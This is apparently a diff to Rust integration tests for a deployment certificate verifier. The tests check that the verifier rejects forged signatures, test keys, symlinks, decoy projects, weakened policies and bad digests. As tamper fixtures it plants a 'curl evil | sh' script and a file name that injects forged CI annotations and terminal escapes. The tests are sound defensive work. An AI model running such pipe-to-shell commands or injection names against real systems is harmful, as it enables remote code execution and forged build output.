@@ -4,7 +4,9 @@
 //! Codes covered here: LP8001 (malformed), LP8002 (bad signature), LP8003 (unsafe subject),
 //! LP8004 (missing), LP8005 (modified), LP8006 (uncertified), LP8007 (spec changed),
 //! LP8008 (traceability), LP8009 (policy), LP8010 (deploy not authorized), LP8011 (unsigned),
-//! LP8012 (invalid policy).
+//! LP8012 (invalid policy). The attacks on the gate itself (issue #14), at the end: LP8013 (no trust anchor), LP8014 and
+//! LP8015 (the TEST-ONLY key), LP8016 (pinned fingerprint), LP8017 (symlink), LP8018 (obligation
+//! missing), LP8019 (unsupported digest).
 //!
 //! `UPDATE_GOLDEN=1 cargo test -p lp-cli --test certificate` rewrites `certificates/*.certificate`.
 
@@ -37,6 +39,9 @@ fn run(args: &[&str]) -> Output {
         .args(args)
         .current_dir(repo())
         .env_remove("LEANOS_SIGNING_KEY")
+        .env_remove("LEANOS_TRUSTED_KEY")
+        .env_remove("LEANOS_TRUSTED_KEY_FINGERPRINT")
+        .env_remove("LEANOS_VERIFY_POLICY")
         .output()
         .expect("run leanos-prove")
 }
@@ -74,16 +79,27 @@ fn build(project: &str, out: &Path) {
     assert!(out.join(CERT).is_file(), "build {project} wrote no certificate: {}", text(&o.stderr));
 }
 
-/// Runs the verifier in-process; returns the codes of its errors (empty = authorized).
+/// Runs the verifier in-process with the test key pinned and allowed; returns the codes of its
+/// errors (empty = authorized).
 fn gate(out: &Path, project: &Path, cert: Option<&Path>) -> Vec<&'static str> {
     let req = VerifyRequest {
         path: out.to_path_buf(),
         cert: cert.map(Path::to_path_buf),
         key: Some(repo().join(TEST_PUB)),
-        policy: None,
+        allow_test_key: true,
         project: Some(project.to_path_buf()),
+        ..VerifyRequest::default()
     };
     let o = verify(&OsFs, &req).expect("verify runs");
+    let mut codes: Vec<&'static str> = o.diagnostics.iter().filter(|d| d.is_error()).map(|d| d.code.id()).collect();
+    codes.dedup();
+    assert_eq!(o.authorized(), codes.is_empty());
+    codes
+}
+
+/// The codes of the errors of an in-process verify (empty = authorized).
+fn error_codes(req: &VerifyRequest) -> Vec<&'static str> {
+    let o = verify(&OsFs, req).expect("verify runs");
     let mut codes: Vec<&'static str> = o.diagnostics.iter().filter(|d| d.is_error()).map(|d| d.code.id()).collect();
     codes.dedup();
     assert_eq!(o.authorized(), codes.is_empty());
@@ -157,8 +173,10 @@ fn every_example_rebuilds_to_its_golden_certificate() {
             )),
             Err(e) => problems.push(format!("{name}: cannot read {}: {e}", golden.display())),
         }
-        // The golden certificate verifies the rebuilt tree.
-        let codes = gate(&out, &repo().join(project), Some(&golden));
+        // The golden certificate verifies the rebuilt tree (in the place of the fresh one: only
+        // the certificate in use is exempt from the orphan check).
+        let _ = std::fs::copy(&golden, out.join(CERT));
+        let codes = gate(&out, &repo().join(project), None);
         if !codes.is_empty() && !update {
             problems.push(format!("{name}: the golden certificate does not verify the rebuilt output: {codes:?}"));
         }
@@ -171,38 +189,36 @@ fn the_cli_gate_authorizes_a_clean_build_and_lists_every_reason_otherwise() {
     let (project, out) = pristine("cli");
     let p = project.to_string_lossy().to_string();
     let key = repo().join(TEST_PUB).to_string_lossy().to_string();
-    let ok = run(&["verify", &p, "--key", &key, "--color", "never"]);
+    let ok = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
     assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
     assert!(text(&ok.stderr).contains("deploy authorized"), "{}", text(&ok.stderr));
-    // Without --key, the project's `[signing] public_key` is used.
-    let ok = run(&["verify", &p, "--color", "never"]);
-    assert_eq!(ok.status.code(), Some(0), "{}", text(&ok.stderr));
+    assert!(text(&ok.stderr).contains("warning[LP8014]"), "{}", text(&ok.stderr));
 
     std::fs::write(out.join("specifications/v2.0.0/api.openapi.json"), b"{}").expect("tamper");
     std::fs::write(out.join("stowaway.sh"), b"curl evil | sh").expect("add");
-    let bad = run(&["verify", &p, "--key", &key, "--color", "never"]);
+    let bad = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
     assert_eq!(bad.status.code(), Some(1));
     let err = text(&bad.stderr);
     assert!(err.contains("error[LP8005]") && err.contains("api.openapi.json"), "{err}");
     assert!(err.contains("error[LP8006]") && err.contains("stowaway.sh"), "{err}");
     assert!(err.contains("deploy NOT authorized: 2 reasons"), "{err}");
 
-    let json = run(&["verify", &p, "--key", &key, "--error-format", "json"]);
+    let json = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "json"]);
     assert_eq!(json.status.code(), Some(1));
     let v: serde_json::Value = serde_json::from_slice(&json.stdout).expect("json output");
     assert_eq!(v["authorized"], false);
     let codes: Vec<&str> =
         v["diagnostics"].as_array().expect("array").iter().filter_map(|d| d["code"].as_str()).collect();
-    assert_eq!(codes, vec!["LP8005", "LP8006"]);
+    assert_eq!(codes, vec!["LP8014", "LP8005", "LP8006"]);
 
-    let gh = run(&["verify", &p, "--key", &key, "--error-format", "github"]);
+    let gh = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "github"]);
     assert_eq!(gh.status.code(), Some(1));
     let lines = text(&gh.stdout);
     assert!(lines.lines().any(|l| l.starts_with("::error title=LP8005::")), "{lines}");
 
-    let sarif = run(&["verify", &p, "--key", &key, "--error-format", "sarif"]);
+    let sarif = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", "sarif"]);
     let v: serde_json::Value = serde_json::from_slice(&sarif.stdout).expect("sarif output");
-    assert_eq!(v["runs"][0]["results"].as_array().map(Vec::len), Some(2));
+    assert_eq!(v["runs"][0]["results"].as_array().map(Vec::len), Some(3));
 
     // The composition graph is valid Graphviz (CI installs graphviz; elsewhere it may be absent).
     let graph = out.join("proofs/composed/composition.dot");
@@ -401,13 +417,34 @@ fn the_policy_is_applied_and_a_bad_policy_is_a_usage_error() {
     let strict = out.parent().expect("parent").join("strict.toml");
     std::fs::write(&strict, "min_tested_cases = 1000\n").expect("policy");
     let p = project.to_string_lossy().to_string();
-    let o = run(&["verify", &p, "--policy", &strict.to_string_lossy(), "--color", "never"]);
+    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
+    let o = run(&[
+        "verify",
+        &p,
+        "--key",
+        &key,
+        "--allow-test-key",
+        "--policy",
+        &strict.to_string_lossy(),
+        "--color",
+        "never",
+    ]);
     assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
     assert!(text(&o.stderr).contains("error[LP8009]"), "{}", text(&o.stderr));
     assert!(text(&o.stderr).contains("at least 1000 cases"), "{}", text(&o.stderr));
     let typo = out.parent().expect("parent").join("typo.toml");
     std::fs::write(&typo, "min_tested_case = 1000\n").expect("policy");
-    let o = run(&["verify", &p, "--policy", &typo.to_string_lossy(), "--color", "never"]);
+    let o = run(&[
+        "verify",
+        &p,
+        "--key",
+        &key,
+        "--allow-test-key",
+        "--policy",
+        &typo.to_string_lossy(),
+        "--color",
+        "never",
+    ]);
     assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
     assert!(text(&o.stderr).contains("LP8012"), "{}", text(&o.stderr));
 }
@@ -480,7 +517,8 @@ fn a_failed_verify_is_flagged_in_the_leanos_workspace() {
     std::fs::write(project.join("artifacts/engineering/configs/extra.yaml"), b"x: 1\n").expect("tamper");
     let ws = dir.join("leanos-workspace");
     let o = Command::new(env!("CARGO_BIN_EXE_leanos-prove"))
-        .args(["verify", &p, "--color", "never"])
+        .args(["verify", &p, "--allow-test-key", "--color", "never"])
+        .env("LEANOS_TRUSTED_KEY", repo().join(TEST_PUB))
         .env("LEANOS_WORKSPACE", &ws)
         .env("LEANOS_TODAY", "2026-11-24")
         .output()
@@ -495,7 +533,262 @@ fn a_failed_verify_is_flagged_in_the_leanos_workspace() {
     assert!(log.contains("status: blocked"), "{log}");
     // Without a workspace nothing is written anywhere.
     let before = std::fs::read_to_string(ws.join("ops/today.md")).expect("today.md");
-    let o = run(&["verify", &p, "--color", "never"]);
+    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
+    let o = run(&["verify", &p, "--key", &key, "--allow-test-key", "--color", "never"]);
     assert_eq!(o.status.code(), Some(1));
     assert_eq!(std::fs::read_to_string(ws.join("ops/today.md")).expect("today.md"), before);
+}
+
+// ---- Attacks on the gate itself (issue #14). Each passed the gate before it was fixed. ----
+
+/// Runs the binary with extra environment variables.
+fn run_env(args: &[&str], env: &[(&str, &str)]) -> Output {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_leanos-prove"));
+    c.args(args)
+        .current_dir(repo())
+        .env_remove("LEANOS_SIGNING_KEY")
+        .env_remove("LEANOS_TRUSTED_KEY")
+        .env_remove("LEANOS_TRUSTED_KEY_FINGERPRINT")
+        .env_remove("LEANOS_VERIFY_POLICY");
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    c.output().expect("run leanos-prove")
+}
+
+fn sha256_hex(b: &[u8]) -> String {
+    use sha2::Digest;
+    keys::hex(&sha2::Sha256::digest(b))
+}
+
+/// Signs a statement with `key` into the output's certificate.
+fn sign_with(out: &Path, st: &Statement, key: &keys::PrivateKey) {
+    let fp = keys::fingerprint(&key.verifying_key()).expect("fingerprint");
+    let payload = lp_cert::canonical::to_vec(&serde_json::to_value(st).expect("json")).expect("canonical");
+    let env = dsse::sign(key, dsse::IN_TOTO_PAYLOAD_TYPE, &payload, &fp);
+    std::fs::write(out.join(CERT), serde_json::to_vec(&env).expect("json")).expect("write cert");
+}
+
+#[test]
+fn the_committed_test_key_has_the_recorded_fingerprint() {
+    let pem = std::fs::read_to_string(repo().join(TEST_PUB)).expect("test key");
+    let key = keys::public_key_from_pem(&pem).expect("spki");
+    assert_eq!(keys::fingerprint(&key).expect("fingerprint"), keys::TEST_ONLY_KEY_FINGERPRINT);
+}
+
+#[test]
+fn the_trees_own_key_is_not_a_trust_anchor() {
+    let (project, out) = pristine("anchor");
+    let p = project.to_string_lossy().to_string();
+    // The attacker tampers with an artifact, swaps the project's public key for their own and
+    // re-signs the tree.
+    let attacker = keys::generate().expect("key");
+    std::fs::write(project.join("attacker.pub"), keys::public_key_to_pem(&attacker.verifying_key()).expect("pem"))
+        .expect("write");
+    let toml = std::fs::read_to_string(project.join("leanos.toml")).expect("toml");
+    let toml = toml.lines().map(|l| if l.starts_with("public_key") { "public_key = \"attacker.pub\"" } else { l });
+    let toml = toml.collect::<Vec<_>>().join("\n");
+    std::fs::write(project.join("leanos.toml"), &toml).expect("toml");
+    let victim = "configs/docker/docker-compose.yaml";
+    let evil = b"services: {evil: {image: evil}}\n";
+    assert!(out.join(victim).is_file(), "{victim} is generated");
+    std::fs::write(out.join(victim), evil).expect("tamper");
+    let (_, mut st) = envelope_of(&out);
+    for s in &mut st.subject {
+        if s.name == victim {
+            s.digest.insert("sha256".into(), sha256_hex(evil));
+        }
+    }
+    // The attacker signs, so the certified digest of the edited `leanos.toml` is theirs too.
+    for f in &mut st.predicate.spec.files {
+        if f.path == "leanos.toml" {
+            f.sha256 = sha256_hex(toml.as_bytes());
+        }
+    }
+    sign_with(&out, &st, &attacker);
+    // Nothing pinned: a usage error that says how to pin a key.
+    let o = run(&["verify", &p, "--color", "never"]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    assert!(err.contains("LP8013") && err.contains("LEANOS_TRUSTED_KEY") && err.contains("--key-fingerprint"), "{err}");
+    // Pinned from outside, the forgery fails: as a file, as PEM text, as a fingerprint.
+    let pub_path = repo().join(TEST_PUB);
+    let pem = std::fs::read_to_string(&pub_path).expect("pem");
+    for env in [pub_path.to_string_lossy().to_string(), pem] {
+        let o = run_env(&["verify", &p, "--allow-test-key", "--color", "never"], &[("LEANOS_TRUSTED_KEY", &env)]);
+        assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+        assert!(text(&o.stderr).contains("error[LP8002]"), "{}", text(&o.stderr));
+    }
+    let fp = keys::TEST_ONLY_KEY_FINGERPRINT;
+    let o = run(&["verify", &p, "--key-fingerprint", fp, "--allow-test-key", "--color", "never"]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+    assert!(text(&o.stderr).contains("error[LP8016]"), "{}", text(&o.stderr));
+    let o = run_env(&["verify", &p, "--color", "never"], &[("LEANOS_TRUSTED_KEY_FINGERPRINT", fp)]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+    assert!(text(&o.stderr).contains("error[LP8016]"), "{}", text(&o.stderr));
+    let o = run(&["verify", &p, "--key-fingerprint", "SHA256:nothex", "--color", "never"]);
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
+    assert!(text(&o.stderr).contains("LP8013"), "{}", text(&o.stderr));
+}
+
+#[test]
+fn the_test_key_is_refused_unless_allowed_and_warned_about_either_way() {
+    let (project, _) = pristine("test-key");
+    let p = project.to_string_lossy().to_string();
+    let fp = keys::TEST_ONLY_KEY_FINGERPRINT;
+    // The project's key has the pinned fingerprint, so it is trusted; it is the test key.
+    let o = run(&["verify", &p, "--key-fingerprint", fp, "--color", "never"]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    assert!(err.contains("warning[LP8014]") && err.contains("error[LP8015]"), "{err}");
+    let o = run(&["verify", &p, "--key-fingerprint", fp, "--allow-test-key", "--color", "never"]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    assert!(err.contains("warning[LP8014]") && !err.contains("LP8015"), "{err}");
+}
+
+#[test]
+fn a_decoy_project_above_the_output_does_not_satisfy_the_spec_check() {
+    let (project, out) = pristine("decoy");
+    let key = Some(repo().join(TEST_PUB));
+    let req = VerifyRequest { path: out.clone(), key: key.clone(), allow_test_key: true, ..VerifyRequest::default() };
+    // The genuine layout is found upwards and confirmed by the certified output path.
+    assert!(error_codes(&req).is_empty());
+    // A copy of the certified project is planted just above the output folder, then the real
+    // spec is edited.
+    let decoy = out.parent().expect("artifacts");
+    std::fs::copy(project.join("leanos.toml"), decoy.join("leanos.toml")).expect("copy toml");
+    copy_tree(&project.join("spec"), &decoy.join("spec"));
+    let spec = project.join("spec/catalog.adt");
+    let mut src = std::fs::read_to_string(&spec).expect("spec");
+    src.push_str("\n/// Edited after certification.\ntype Later = { note: String }\n");
+    std::fs::write(&spec, src).expect("edit spec");
+    assert_eq!(error_codes(&req), vec!["LP8007"]);
+}
+
+#[test]
+fn symlinks_in_the_output_are_refused() {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::symlink;
+        let (project, out) = pristine("symlink-file");
+        let victim = out.join("configs/docker/docker-compose.yaml");
+        let elsewhere = out.parent().expect("parent").parent().expect("project").join("../elsewhere.yaml");
+        std::fs::copy(&victim, &elsewhere).expect("identical copy");
+        std::fs::remove_file(&victim).expect("remove");
+        symlink(&elsewhere, &victim).expect("symlink");
+        assert_eq!(gate(&out, &project, None), vec!["LP8017"]);
+
+        let (project, out) = pristine("symlink-dir");
+        let elsewhere = project.parent().expect("scratch").join("configs-copy");
+        copy_tree(&out.join("configs"), &elsewhere);
+        std::fs::remove_dir_all(out.join("configs")).expect("remove");
+        symlink(&elsewhere, out.join("configs")).expect("symlink");
+        assert_eq!(gate(&out, &project, None), vec!["LP8017"]);
+    }
+}
+
+#[test]
+fn only_the_certificate_in_use_is_exempt_from_the_orphan_check() {
+    let (project, out) = pristine("cert-exempt");
+    let other = out.parent().expect("parent").join("other.certificate");
+    std::fs::copy(out.join(CERT), &other).expect("copy");
+    // Verifying with another certificate, the file at the default place is just another file.
+    assert_eq!(gate(&out, &project, Some(&other)), vec!["LP8006"]);
+    std::fs::remove_file(out.join(CERT)).expect("remove");
+    assert!(gate(&out, &project, Some(&other)).is_empty());
+    // A certificate given by `--cert` inside the output folder is exempt, wherever it lies.
+    let inside = out.join("configs/release.certificate");
+    std::fs::copy(&other, &inside).expect("copy");
+    assert!(gate(&out, &project, Some(&inside)).is_empty());
+}
+
+#[test]
+fn file_names_with_control_characters_are_escaped_in_every_format() {
+    let (project, out) = pristine("escape");
+    std::fs::write(out.join("evil\n::error file=x.py::forged\r\u{1b}[2J"), b"x").expect("add");
+    let p = project.to_string_lossy().to_string();
+    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
+    for format in ["human", "github", "json", "sarif"] {
+        let o = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", format, "--color", "never"]);
+        assert_eq!(o.status.code(), Some(1), "{format}: {}", text(&o.stderr));
+        for stream in [text(&o.stdout), text(&o.stderr)] {
+            assert!(!stream.lines().any(|l| l.trim_start().starts_with("::error file=x.py")), "{format}: {stream}");
+            assert!(!stream.contains('\r') && !stream.contains('\u{1b}'), "{format}: {stream:?}");
+        }
+        let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
+        match format {
+            "human" => assert!(all.contains(r"evil\n::error file=x.py::forged\r\u{1b}[2J"), "{all}"),
+            "github" => assert!(all.contains(r"evil%0A::error file=x.py::forged%0D\u{1b}[2J"), "{all}"),
+            _ => {
+                let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
+                assert!(v.to_string().contains("evil\\n::error"), "{v}");
+            }
+        }
+    }
+}
+
+#[test]
+fn the_signer_does_not_set_its_own_bar() {
+    // A weakened embedded policy: a bounded verdict at depth 1, which the statement accepts.
+    let (project, out) = pristine("weak-policy");
+    let (_, mut st) = envelope_of(&out);
+    st.predicate.obligations[0].verdict = serde_json::json!({"verdict": "bounded", "depth": 1});
+    st.predicate.policy.allow_bounded = true;
+    st.predicate.policy.min_bounded_depth = 0;
+    resign(&out, &st);
+    assert_eq!(gate(&out, &project, None), vec!["LP8009"]);
+    // A verifier policy file cannot be loosened by the statement, and the statement's stricter
+    // policy still applies on top of a lax verifier policy.
+    let (project, out) = pristine("strict-statement");
+    let (_, mut st) = envelope_of(&out);
+    st.predicate.policy.min_tested_cases = 1000;
+    resign(&out, &st);
+    let lax = out.parent().expect("parent").join("lax.toml");
+    std::fs::write(&lax, "min_tested_cases = 1\n").expect("policy");
+    let req = VerifyRequest {
+        path: out.clone(),
+        key: Some(repo().join(TEST_PUB)),
+        allow_test_key: true,
+        policy: Some(lax),
+        project: Some(project.clone()),
+        ..VerifyRequest::default()
+    };
+    assert_eq!(error_codes(&req), vec!["LP8009"]);
+    // No obligations at all for a spec that has them.
+    let (project, out) = pristine("no-obligations");
+    let (_, mut st) = envelope_of(&out);
+    let dropped = st.predicate.obligations.len();
+    assert!(dropped > 10);
+    st.predicate.obligations.clear();
+    st.predicate.summary.clear();
+    resign(&out, &st);
+    assert_eq!(gate(&out, &project, None), vec!["LP8018"]);
+    // One obligation left out.
+    let (project, out) = pristine("one-obligation");
+    let (_, mut st) = envelope_of(&out);
+    st.predicate.obligations.pop();
+    resign(&out, &st);
+    assert_eq!(gate(&out, &project, None), vec!["LP8018"]);
+}
+
+#[test]
+fn every_digest_a_subject_carries_is_checked() {
+    use sha2::Digest;
+    let (project, out) = pristine("digests");
+    let (_, st) = envelope_of(&out);
+    let name = st.subject[0].name.clone();
+    let bytes = std::fs::read(out.join(&name)).expect("artifact");
+    let right = keys::hex(&sha2::Sha512::digest(&bytes));
+    for (alg, value, want) in [
+        ("sha512", "0".repeat(128), vec!["LP8005"]),
+        ("sha512", right, vec![]),
+        ("md5", "0".repeat(32), vec!["LP8019"]),
+        ("sha512", "00".into(), vec!["LP8001"]),
+    ] {
+        let mut forged = st.clone();
+        forged.subject[0].digest.insert(alg.into(), value.clone());
+        resign(&out, &forged);
+        assert_eq!(gate(&out, &project, None), want, "{alg} {value}");
+    }
 }
